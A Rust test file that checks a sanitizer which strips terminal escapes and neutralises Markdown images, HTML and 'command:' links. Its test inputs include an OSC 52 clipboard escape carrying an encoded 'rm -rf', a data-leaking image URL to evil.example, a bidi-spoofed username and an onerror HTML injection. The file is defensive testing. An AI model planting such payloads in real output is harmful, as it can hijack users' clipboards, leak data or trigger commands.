use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

use super::harmless_markdown;
use crate::printable::printable;

#[test]
fn terminal_escapes_are_removed_whole() {
    let table = [
        ("plain text\n\twith layout", "plain text\n\twith layout"),
        ("\u{1b}[31mred\u{1b}[0m", "red"),
        ("\u{1b}]8;;http://evil\u{7}click\u{1b}]8;;\u{7}", "click"),
        ("\u{1b}]52;c;cm0gLXJm\u{1b}\\done", "\\done"),
        ("a\u{1b}]0;never closed\nb", "ab"),
        ("over\rwritten\u{8}", "overwritten"),
        ("\u{9b}31mred", "31mred"),
        ("user\u{202e}nimda", "usernimda"),
        ("naïve 日本 👍", "naïve 日本 👍"),
    ];
    for (text, expected) in table {
        assert_eq!(printable(text), expected, "{text:?}");
    }
}

#[test]
fn markdown_keeps_its_form_and_loses_what_acts() {
    let table = [
        (
            "It *sorts* `items[0]`, see [PEP 8](https://peps.python.org/pep-0008/).",
            "It *sorts* `items[0]`, see [PEP 8](https://peps.python.org/pep-0008/).",
        ),
        (
            "```ts\nconst a: Array<string> = [x](y)\n```",
            "```ts\nconst a: Array<string> = [x](y)\n```",
        ),
        (
            "before ![pixel](https://evil.example/p.png?q=secret) after",
            "before (image removed) after",
        ),
        (
            "![pixel][p]\n\n[p]: http://e/p",
            "(image removed)\n\n[p]: http://e/p",
        ),
        (
            "[run me](command:workbench.action.terminal.new)",
            "\\[run me](command:workbench.action.terminal.new)",
        ),
        (
            "[run][r]\n\n[r]: command:x",
            "\\[run]\\[r]\n\n[r]: command:x",
        ),
        ("<command:x>", "&lt;command:x>"),
        (
            "<img src=x onerror=y> text",
            "&lt;img src=x onerror=y> text",
        ),
        (
            "<div>\n[run](command:x)\n</div>",
            "&lt;div>\n\\[run](command:x)\n&lt;/div>",
        ),
        (
            "[![pixel](http://e/p)](command:x)",
            "\\[(image removed)](command:x)",
        ),
    ];
    for (text, expected) in table {
        assert_eq!(harmless_markdown(text), expected, "{text:?}");
    }
}

/// Everything in the text that a renderer would act on.
fn dangers(text: &str) -> Vec<String> {
    Parser::new_ext(text, Options::ENABLE_TABLES)
        .filter(|event| match event {
            Event::Html(html) | Event::InlineHtml(html) => html.contains('<'),
            Event::Start(Tag::Image { .. }) => true,
            Event::Start(Tag::Link { dest_url, .. }) => {
                !dest_url.to_lowercase().starts_with("http")
            }
            _ => false,
        })
        .map(|event| format!("{event:?}"))
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn nothing_that_acts_survives(
        pieces in prop::collection::vec(
            prop::sample::select(vec![
                "[", "]", "(", ")", "<", ">", "!", "`", "```", "\n", "\n\n", " ", "    ", "\\",
                "![a](http://e)", "[a](command:x)", "<img src=x>", "<!--", "-->", "<div>", "> ",
                "- ", "1. ", "[r]", "[r]: command:x", "text", "~~~", "|", "&lt;", "<command:x>",
            ]),
            0..24,
        ),
    ) {
        let text = pieces.concat();
        let shown = harmless_markdown(&text);
        prop_assert!(dangers(&shown).is_empty(), "{text:?} became {shown:?}: {:?}", dangers(&shown));
    }
}
